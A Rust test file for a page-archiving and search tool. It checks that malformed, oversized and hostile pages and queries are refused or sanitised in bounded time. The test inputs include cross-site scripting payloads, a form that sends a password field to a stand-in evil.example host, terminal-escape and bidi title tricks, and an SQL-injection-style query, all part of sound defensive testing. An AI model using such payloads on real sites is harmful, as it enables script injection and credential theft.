//! Pages and queries that mean harm or make no sense: refused with a reason or shown safely, in bounded time, and
//! everything beside them goes on.

use crate::desk::{Desk, Ran};
use crate::pages;
use std::fs::File;
use std::time::{Duration, Instant};

/// How long one bad page may take in an unoptimised build on a busy machine; reading gives up by itself well before.
const PATIENCE: Duration = Duration::from_secs(45);

/// What must come of a page.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Must {
    /// Refused with a reason.
    Fail,
    /// Saved or refused, but with an answer.
    End,
    /// Saved, with the article's own text in it.
    Save,
}

#[test]
fn every_bad_page_ends_with_a_row_and_the_good_one_is_saved() {
    let desk = Desk::new();
    let good = desk.write("good.html", pages::english());
    for (name, page, must) in bad_pages() {
        let file = desk.write(format!("bad/{name}.html"), page);
        let started = Instant::now();
        let ran = desk.run(["save".as_ref(), file.as_os_str(), "--json".as_ref()]);
        let took = started.elapsed();
        answered(name, &ran, must);
        assert!(took < PATIENCE, "{name} took {took:?}");
    }
    let ran = desk.run(["save".as_ref(), desk.path("bad").as_os_str(), good.as_os_str(), "--json".as_ref()]);
    ran.failed("a folder with bad pages");
    let rows = ran.rows();
    assert_eq!(rows.len(), bad_pages().len() + 1, "a row for each");
    assert_eq!(rows.last().expect("rows")["outcome"], "saved", "the good page after them is saved");
    assert_eq!(desk.json(["check"])["ok"], true, "and the library is sound");
    assert_eq!(desk.json(["search", "Calloway"])["hits"][0]["title"], pages::ENGLISH_TITLE, "and searchable");
}

#[test]
fn a_huge_file_is_refused_unread() {
    let desk = Desk::new();
    let path = desk.path("huge.html");
    // Half a gigabyte that takes no room on the disk.
    File::create(&path).and_then(|file| file.set_len(500 << 20)).expect("a sparse file");
    let started = Instant::now();
    desk.run(["save".as_ref(), path.as_os_str()]).failed("half a gigabyte");
    assert!(started.elapsed() < Duration::from_secs(5), "it was not read: {:?}", started.elapsed());
    desk.run(["save", "/dev/zero"]).failed("a device that never ends");
}

#[test]
fn what_a_page_says_cannot_act_in_text_or_html() {
    let desk = Desk::new();
    let body = format!(
        "<p onclick=\"steal()\">{}</p><script>steal()</script><iframe src=\"https://evil.example/\"></iframe>\
         <a href=\"java&#115;cript:steal()\">계속 읽기</a> <a href=\"\tJaVaScRiPt:steal()\">더 보기</a> <a href=\"data:text/html,steal\">자료</a>\
         <svg onload=\"steal()\"><script>steal()</script></svg><math><mi xlink:href=\"javascript:steal()\">x</mi></math>\
         <form action=\"https://evil.example/\"><input name=\"password\"></form><object data=\"x\"></object><embed src=\"x\">\
         <style>p {{ background: url(https://evil.example/) }}</style><base href=\"https://evil.example/\">\
         <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><p>{}</p><p>{}</p>",
        pages::KOREAN[0],
        pages::KOREAN[1],
        pages::KOREAN[2]
    );
    let id = desk.save("hostile.html", &pages::page("ko", "\u{202e}거꾸로\u{202c} 쓴 제목 \u{1b}[2J", &[body]));
    let html = desk.json(["show", &id])["html"].as_str().expect("html").to_lowercase();
    for bad in [
        "<script",
        "onclick",
        "onload",
        "<iframe",
        "javascript:",
        "data:text",
        "<svg",
        "<math",
        "<form",
        "<input",
        "<object",
        "<embed",
        "<style",
        "<base",
        "<meta",
        "url(",
    ] {
        assert!(!html.contains(bad), "{bad} is gone: {html}");
    }
    let listed = desk.run(["list"]);
    assert!(!listed.out.contains(['\u{1b}', '\u{202e}']), "a title does not steer the terminal: {:?}", listed.out);
}

#[test]
fn senseless_queries_are_answered_quickly() {
    let desk = Desk::new();
    desk.save("ko.html", &pages::korean());
    let queries = [
        "x".repeat(100_000),
        "한".repeat(100_000),
        "가나 ".repeat(20_000),
        "* ".repeat(1_000),
        format!("{}한서윤{}", "(".repeat(10_000), ")".repeat(10_000)),
        "\"".repeat(999),
        "((((".to_owned(),
        "OR OR OR -".to_owned(),
        "- - -".to_owned(),
        "!@#$%^&*(){}[]|\\".to_owned(),
        "title:title:title:".to_owned(),
        "saved:99999-99-99..".to_owned(),
        "person:\"".to_owned(),
        "a\u{0}b".to_owned(),
        "👩‍👩‍👧‍👦🏳️‍🌈".to_owned(),
        "text:한서윤^1000 _id:*".to_owned(),
        "-한서윤".to_owned(),
        "?* ".repeat(1_000),
        "%_'; DROP TABLE articles; --".to_owned(),
        "title:(a OR entity:* AND stem:b)".to_owned(),
        "title:a ".repeat(200),
        String::new(),
    ];
    let ran = desk.run_with(["search", "-", "--json"], (queries.join("\n") + "\n").as_bytes());
    ran.succeeded("a list of senseless queries");
    let rows = ran.rows();
    assert_eq!(rows.len(), queries.len(), "an answer each");
    for (query, row) in queries.iter().zip(&rows) {
        let took = row["took_ms"].as_f64().expect("a time");
        let start: String = query.chars().take(20).collect();
        assert!(took < 5_000.0, "“{start}…” took {took} ms in an unoptimised build");
    }
}

#[test]
fn a_line_that_is_no_query_is_refused_and_the_others_answered() {
    let desk = Desk::new();
    desk.save("ko.html", &pages::korean());
    let endless = "한".repeat(10 << 20);
    let input = [b"\xff\xfe\n".as_slice(), endless.as_bytes(), "\n한서윤\n".as_bytes()].concat();
    let started = Instant::now();
    let ran = desk.run_with(["search", "-", "--json"], &input);
    assert!(started.elapsed() < Duration::from_secs(10), "in time: {:?}", started.elapsed());
    ran.failed("two lines that are none");
    let rows = ran.rows();
    let error = |row: &serde_json::Value| row["error"].as_str().unwrap_or_default().to_owned();
    assert_eq!(error(&rows[0]), "line 1 is no query: it is not UTF-8 text");
    assert_eq!(error(&rows[1]), "line 2 is no query: it is longer than 1024 KB");
    assert_eq!((rows.len(), &rows[2]["query"], &rows[2]["total"]), (3, &"한서윤".into(), &1.into()), "the last");
}

fn bad_pages() -> Vec<(&'static str, Vec<u8>, Must)> {
    let article = pages::KOREAN.map(|text| format!("<p>{text}</p>")).concat();
    let wrapped = |before: &str, after: &str| {
        format!("<html><head><title>제목</title></head><body>{before}<article><h1>제목</h1>{article}</article>{after}")
            .into_bytes()
    };
    let mut utf16 = vec![0xff, 0xfe];
    utf16.extend(String::from_utf8_lossy(&wrapped("", "")).encode_utf16().flat_map(u16::to_be_bytes));
    let mut random = 7u32;
    let mut noise = || {
        random = random.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (random >> 24) as u8
    };
    vec![
        ("empty", Vec::new(), Must::Fail),
        ("only white space", b" \n\t\r\n ".repeat(100), Must::Fail),
        ("binary", (0..100_000).map(|_| noise()).collect(), Must::Fail),
        ("nothing but NUL", vec![0; 100_000], Must::Fail),
        ("64k nested lists", "<ul><li>".repeat(65_536).into_bytes(), Must::Fail),
        ("a million nested tags", "<b>".repeat(1_000_000).into_bytes(), Must::Fail),
        ("a million open divs", "<div>x".repeat(1_000_000).into_bytes(), Must::Fail),
        (
            "100k attributes",
            wrapped(&format!("<p {}>", (0..100_000).map(|n| format!("a{n}=1 ")).collect::<String>()), ""),
            Must::End,
        ),
        ("a 10 MB attribute", wrapped(&format!("<p title=\"{}\">", "x".repeat(10 << 20)), ""), Must::End),
        ("a text of 10 MB without an end", wrapped(&"가나다라 ".repeat(10 << 16), ""), Must::End),
        ("a word of 1 MB", wrapped("", &format!("<p>{}</p>", "x".repeat(1 << 20))), Must::End),
        ("an unclosed comment", wrapped("", "<!-- never closed"), Must::Save),
        ("plaintext at the end", wrapped("", "<plaintext></html>"), Must::Save),
        ("noscript and style", wrapped("<noscript><style></noscript><script>alert(1)</script></style>", ""), Must::End),
        (
            "clobbering ids",
            wrapped("<form id=\"document\"><input name=\"body\"><img id=\"__proto__\"></form>", ""),
            Must::Save,
        ),
        ("UTF-16 with a lying mark", utf16, Must::End),
        ("a wrong charset", [b"<meta charset=utf-7>".to_vec(), wrapped("", "")].concat(), Must::Save),
        ("NUL between letters", wrapped("<p>한\u{0}서\u{0}윤</p>", ""), Must::Save),
        ("zero-width letters", wrapped("<p>한\u{200b}서\u{200b}윤\u{feff}</p>", ""), Must::Save),
        ("ten thousand identical paragraphs", wrapped("", &"<p>같은 문단이 되풀이된다.</p>".repeat(10_000)), Must::End),
        ("a script that never closes", wrapped("", "<script>while (true) {"), Must::Save),
    ]
}

fn answered(name: &str, ran: &Ran, must: Must) {
    assert!(!ran.err.contains("panicked"), "{name} crashes nothing: {}", ran.err);
    assert_eq!(ran.rows().len(), 1, "{name} is answered: {ran:?}");
    let row = &ran.rows()[0];
    let failed = row["outcome"] == "failed";
    match must {
        Must::Fail => assert!(failed, "{name} is refused: {row}"),
        Must::Save => assert!(!failed, "{name} is saved: {row}"),
        Must::End => {}
    }
    assert_eq!(ran.code, Some(i32::from(failed)), "{name}: the exit status tells: {ran:?}");
    if failed {
        assert!(row["error"].as_str().is_some_and(|why| why.len() > 10), "{name} says why: {row}");
    }
}
